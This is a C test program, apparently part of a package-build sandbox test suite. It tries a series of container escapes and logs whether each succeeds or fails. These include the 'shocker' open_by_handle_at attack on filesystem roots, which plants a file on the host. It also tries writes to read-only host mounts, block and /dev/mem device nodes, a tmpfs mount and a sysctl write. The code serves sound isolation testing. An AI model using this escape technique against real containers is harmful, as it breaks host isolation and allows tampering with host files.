/*
 * A package script's attempts to leave the sandbox with what the kernel checks against the host's
 * user namespace, each recorded as one line "<attempt> <target>: <errno name>" ("OK" when it worked)
 * in the file named by argv[1]:
 *   open_by_handle_at   a handle for inode 2 (the root of most filesystems), from every mount point the
 *                       sandbox shows, a few usual directories and the directories argv[3...] ("shocker"):
 *                       it needs CAP_DAC_READ_SEARCH in the host's user namespace. When it opens, the
 *                       program tries to create argv[2] (a path relative to that filesystem's root)
 *                       there, to show the harm.
 *   create              a file in each directory argv[3...] (read-only mounts of the host's)
 *   mknod               a block device (8:0) and a character device (1:1, /dev/mem)
 *   mount               a tmpfs
 *   sysctl              writes kernel.printk_ratelimit's own value back
 * Built static by the test (gcc -static -O2), so it runs in any image.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static FILE *record;

static void note(const char *attempt, const char *target, int result) {
  fprintf(record, "%s %s: %s\n", attempt, target, result == 0 ? "OK" : strerrorname_np(errno));
  fflush(record);
}

struct inode_handle {
  unsigned int handle_bytes;
  int handle_type;
  unsigned int ino;
  unsigned int generation;
};

static void open_root_by_handle(const char *dir, const char *plant) {
  int mount_fd = open(dir, O_RDONLY | O_DIRECTORY);
  if (mount_fd < 0) {
    note("open", dir, -1);
    return;
  }
  /* FILEID_INO32_GEN: a 32-bit inode number and a generation, as shocker sent them */
  struct inode_handle handle = {.handle_bytes = 8, .handle_type = 1, .ino = 2, .generation = 0};
  int fd = open_by_handle_at(mount_fd, (struct file_handle *) &handle, O_RDONLY | O_DIRECTORY);
  note("open_by_handle_at", dir, fd < 0 ? -1 : 0);
  if (fd >= 0) {
    int planted = openat(fd, plant, O_WRONLY | O_CREAT | O_EXCL, 0644);
    note("plant", dir, planted < 0 ? -1 : 0);
    if (planted >= 0) {
      close(planted);
    }
    close(fd);
  }
  close(mount_fd);
}

/* Mount points as /proc/self/mountinfo writes them: the fifth field, with \040 and friends decoded. */
static void every_mount_point(const char *plant) {
  FILE *mounts = fopen("/proc/self/mountinfo", "r");
  if (mounts == NULL) {
    note("open", "/proc/self/mountinfo", -1);
    return;
  }
  char line[8192];
  while (fgets(line, sizeof line, mounts) != NULL) {
    char *field = line;
    for (int i = 0; i < 4 && field != NULL; i++) {
      field = strchr(field, ' ');
      if (field != NULL) {
        field++;
      }
    }
    if (field == NULL) {
      continue;
    }
    char path[4096];
    size_t n = 0;
    for (char *c = field; *c != ' ' && *c != '\0' && *c != '\n' && n < sizeof path - 1; c++) {
      if (c[0] == '\\' && c[1] >= '0' && c[1] <= '7' && c[2] >= '0' && c[2] <= '7' && c[3] >= '0' && c[3] <= '7') {
        path[n++] = (char) ((c[1] - '0') * 64 + (c[2] - '0') * 8 + (c[3] - '0'));
        c += 3;
      } else {
        path[n++] = *c;
      }
    }
    path[n] = '\0';
    struct stat st;
    if (stat(path, &st) == 0 && S_ISDIR(st.st_mode)) {
      open_root_by_handle(path, plant);
    }
  }
  fclose(mounts);
}

static void write_sysctl(const char *file) {
  char value[64] = "";
  FILE *in = fopen(file, "r");
  if (in == NULL || fgets(value, sizeof value, in) == NULL) {
    note("sysctl-read", file, -1);
    if (in != NULL) {
      fclose(in);
    }
    return;
  }
  fclose(in);
  int fd = open(file, O_WRONLY);
  int written = fd < 0 ? -1 : (write(fd, value, strlen(value)) < 0 ? -1 : 0);
  note("sysctl", file, written);
  if (fd >= 0) {
    close(fd);
  }
}

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: %s RECORD PATH-TO-PLANT-RELATIVE-TO-A-FILESYSTEM-ROOT [DIR...]\n", argv[0]);
    return 2;
  }
  record = fopen(argv[1], "a");
  if (record == NULL) {
    perror(argv[1]);
    return 1;
  }
  const char *plant = argv[2];
  every_mount_point(plant);
  const char *usual[] = {"/", "/var/cache/apt/archives", "/proc", "/dev", "/dev/pts", "/tmp", "/sys", "/etc",
      "/var/lib/dpkg"};
  for (size_t i = 0; i < sizeof usual / sizeof usual[0]; i++) {
    open_root_by_handle(usual[i], plant);
  }
  for (int i = 3; i < argc; i++) {
    open_root_by_handle(argv[i], plant);
    char file[4096];
    snprintf(file, sizeof file, "%s/escape-probe-planted", argv[i]);
    int created = open(file, O_WRONLY | O_CREAT | O_EXCL, 0644);
    note("create", file, created < 0 ? -1 : 0);
    if (created >= 0) {
      close(created);
    }
  }
  unlink("/tmp/probe-block");
  note("mknod-block", "/tmp/probe-block 8:0", mknod("/tmp/probe-block", S_IFBLK | 0600, makedev(8, 0)));
  unlink("/tmp/probe-char");
  note("mknod-char", "/tmp/probe-char 1:1", mknod("/tmp/probe-char", S_IFCHR | 0600, makedev(1, 1)));
  mkdir("/tmp/probe-mount", 0700);
  note("mount", "tmpfs /tmp/probe-mount", mount("probe", "/tmp/probe-mount", "tmpfs", 0, NULL));
  write_sysctl("/proc/sys/kernel/printk_ratelimit");
  umount("/tmp/probe-mount");
  rmdir("/tmp/probe-mount");
  unlink("/tmp/probe-block");
  unlink("/tmp/probe-char");
  fprintf(record, "done\n");
  fclose(record);
  return 0;
}
